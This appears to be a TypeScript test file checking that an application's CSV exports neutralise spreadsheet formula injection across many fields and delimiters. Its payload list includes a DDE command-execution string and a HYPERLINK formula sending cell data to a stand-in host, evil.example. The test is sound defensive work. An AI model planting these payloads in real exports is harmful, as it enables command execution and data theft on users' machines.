import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { routeTable } from '../../src/platform/http/route-table.ts'
import type { Product } from '../support/product.ts'
import { draft, openWorld, type World } from './world.ts'

const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', "=cmd|'/C calc'!A0", ' =1', '\t=1', '\n=1', '\r\n@x', '＝1', 'a;=1', 'a\n=1', '";=1', '=HYPERLINK("http://evil.example?x="&A1,"open")']

describe('exports', () => {
  let world: World & { readonly product: Product }
  beforeAll(async () => {
    world = await openWorld()
  })
  afterAll(() => world?.product.stop())

  it('19 holds no cell that a spreadsheet would run, in any CSV there is, cut at any separator', async () => {
    const { owner, ids } = world
    for (const [place, text] of formulas.entries()) {
      await owner.ask('POST', '/posts', draft(text, [ids['connectionId'] ?? '']))
      await owner.ask('POST', '/campaigns', { name: text })
      await owner.ask('POST', '/links', { targetUrl: `https://shop.example/${encodeURIComponent(text)}?a=;=1`, title: text, utm: { source: text, medium: text, campaign: text, term: text, content: text } })
      await owner.ask('POST', '/conversions', { goal: 'purchase', externalId: text, value: null })
      await owner.ask('PATCH', `/goals/${ids['goalId']}`, { label: text.trim() || 'x' })
      await owner.ask('POST', '/api-keys', { name: text, scopes: ['read'] })
      await owner.ask('PATCH', '', { name: text.trim() || 'x' })
      await owner.ask('PATCH', '/api/v1/me', { name: text.trim() || 'x' })
      await owner.ask('POST', '/invitations', { email: `${'=+-@'[place % 4]}cmd${place}@example.org`, role: 'viewer' })
      await owner.ask('POST', '/connections', { channelId: 'rehearsal', methodId: 'make-up', fields: { displayName: text } })
    }
    const exports = routeTable(world.product.api).filter(({ method, url }) => method === 'GET' && /\.csv$|\/export$/.test(url))
    expect(exports.length).toBeGreaterThanOrEqual(4)
    for (const { url } of exports) {
      const answer = await owner.ask('GET', url.replace(':workspaceId', owner.workspaceId))
      expect(answer.status, url).toBe(200)
      expect(answer.headers.get('content-type'), url).toMatch(/^text\/csv/)
      expect(answer.headers.get('content-disposition'), url).toMatch(/^attachment/)
      for (const delimiter of [',', ';', '\t']) {
        const cells = (parse(answer.text, { bom: true, delimiter, relax_column_count: true, skip_empty_lines: true, ...(delimiter === ',' ? {} : { quote: false }) }) as string[][]).flat()
        expect(cells.length, url).toBeGreaterThan(formulas.length)
        // A number stays one.
        for (const cell of cells) if (!/^-?\d+([.,]\d+)?$/.test(cell)) expect(cell, `${url} cut at ${JSON.stringify(delimiter)}`).not.toMatch(/^"?\s*[=+\-@|%＝＋－＠]/)
      }
    }
  })
})
